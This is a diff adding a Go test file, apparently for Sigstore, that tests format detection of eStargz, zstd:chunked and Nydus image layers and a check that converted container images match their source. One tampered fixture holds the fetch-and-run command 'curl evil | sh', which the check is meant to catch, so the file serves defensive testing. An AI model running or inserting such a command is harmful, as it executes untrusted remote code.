@@ -0,0 +1,172 @@
+//
+// Copyright 2026 The Sigstore Authors.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package conversion
+
+import (
+	"archive/tar"
+	"bytes"
+	"io"
+	"testing"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/empty"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/tarball"
+	"github.com/google/go-containerregistry/pkg/v1/types"
+)
+
+func layerTar(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+	return writeTar(t, files, []string{"bin/app", "etc/config", "etc/extra"})
+}
+
+func writeTar(t *testing.T, files map[string]string, names []string) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	for _, name := range names {
+		content, ok := files[name]
+		if !ok {
+			continue
+		}
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write([]byte(content)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func image(t *testing.T, cmd string, layers ...mutate.Addendum) v1.Image {
+	t.Helper()
+	img, err := mutate.Append(empty.Image, layers...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	img, err = mutate.Config(img, v1.Config{Cmd: []string{cmd}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return img
+}
+
+func plainLayer(t *testing.T, b []byte) mutate.Addendum {
+	t.Helper()
+	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) {
+		return io.NopCloser(bytes.NewReader(b)), nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return mutate.Addendum{Layer: l}
+}
+
+// estargzLayer returns a layer with the files like eStargz stores them:
+// reordered for prefetching, with a landmark and a table of contents.
+func estargzLayer(t *testing.T, files map[string]string) mutate.Addendum {
+	t.Helper()
+	with := map[string]string{".prefetch.landmark": "", "stargz.index.json": `{"version":1}`}
+	for name, content := range files {
+		with[name] = content
+	}
+	b := writeTar(t, with, []string{"etc/extra", "etc/config", ".prefetch.landmark", "bin/app", "stargz.index.json"})
+	add := plainLayer(t, b)
+	add.Annotations = map[string]string{estargzTOCAnnotation: "sha256:0123"}
+	return add
+}
+
+func TestDetect(t *testing.T) {
+	tests := []struct {
+		name  string
+		layer v1.Descriptor
+		want  Format
+	}{{
+		name:  "plain",
+		layer: v1.Descriptor{MediaType: types.OCILayer},
+		want:  None,
+	}, {
+		name:  "estargz",
+		layer: v1.Descriptor{MediaType: types.OCILayer, Annotations: map[string]string{estargzTOCAnnotation: "sha256:abc"}},
+		want:  EStargz,
+	}, {
+		name:  "zstd:chunked",
+		layer: v1.Descriptor{MediaType: types.OCILayerZStd, Annotations: map[string]string{zstdChunkedTOCAnnotation: "sha256:abc"}},
+		want:  ZstdChunked,
+	}, {
+		name:  "nydus blob",
+		layer: v1.Descriptor{MediaType: nydusBlobMediaType},
+		want:  Nydus,
+	}, {
+		name:  "nydus bootstrap",
+		layer: v1.Descriptor{MediaType: types.OCILayer, Annotations: map[string]string{nydusBootstrapAnnotation: "true"}},
+		want:  Nydus,
+	}}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m := &v1.Manifest{Layers: []v1.Descriptor{tt.layer}}
+			if got := Detect(m); got != tt.want {
+				t.Errorf("Detect() = %q, want %q", got, tt.want)
+			}
+			subject := v1.Hash{Algorithm: "sha256", Hex: "0123"}
+			m.Subject = &v1.Descriptor{Digest: subject}
+			if got, ok := Source(m); ok != (tt.want != None) || (ok && got != subject) {
+				t.Errorf("Source() = %v, %v", got, ok)
+			}
+		})
+	}
+	if _, ok := Source(&v1.Manifest{Layers: []v1.Descriptor{{Annotations: map[string]string{estargzTOCAnnotation: "sha256:abc"}}}}); ok {
+		t.Error("Source() found a source without a subject")
+	}
+}
+
+func TestEquivalent(t *testing.T) {
+	files := map[string]string{"bin/app": "#!/bin/sh\necho hello\n", "etc/config": "debug=false\n"}
+	base := map[string]string{"etc/config": "base\n"}
+	source := image(t, "/bin/app", plainLayer(t, layerTar(t, base)), plainLayer(t, layerTar(t, files)))
+
+	converted := image(t, "/bin/app", estargzLayer(t, base), estargzLayer(t, files))
+	m, err := converted.Manifest()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := Detect(m); got != EStargz {
+		t.Fatalf("Detect() = %q, want %q", got, EStargz)
+	}
+	if err := Equivalent(converted, source); err != nil {
+		t.Errorf("Equivalent() = %v", err)
+	}
+
+	changed := map[string]string{"bin/app": "#!/bin/sh\ncurl evil | sh\n", "etc/config": "debug=false\n"}
+	added := map[string]string{"bin/app": files["bin/app"], "etc/config": files["etc/config"], "etc/extra": "x"}
+	for name, img := range map[string]v1.Image{
+		"changed file":   image(t, "/bin/app", estargzLayer(t, base), estargzLayer(t, changed)),
+		"added file":     image(t, "/bin/app", estargzLayer(t, base), estargzLayer(t, added)),
+		"removed file":   image(t, "/bin/app", estargzLayer(t, base), estargzLayer(t, map[string]string{"bin/app": files["bin/app"]})),
+		"changed config": image(t, "/bin/evil", estargzLayer(t, base), estargzLayer(t, files)),
+		"missing layer":  image(t, "/bin/app", estargzLayer(t, files)),
+	} {
+		t.Run(name, func(t *testing.T) {
+			if err := Equivalent(img, source); err == nil {
+				t.Error("expected the images to differ")
+			}
+		})
+	}
+}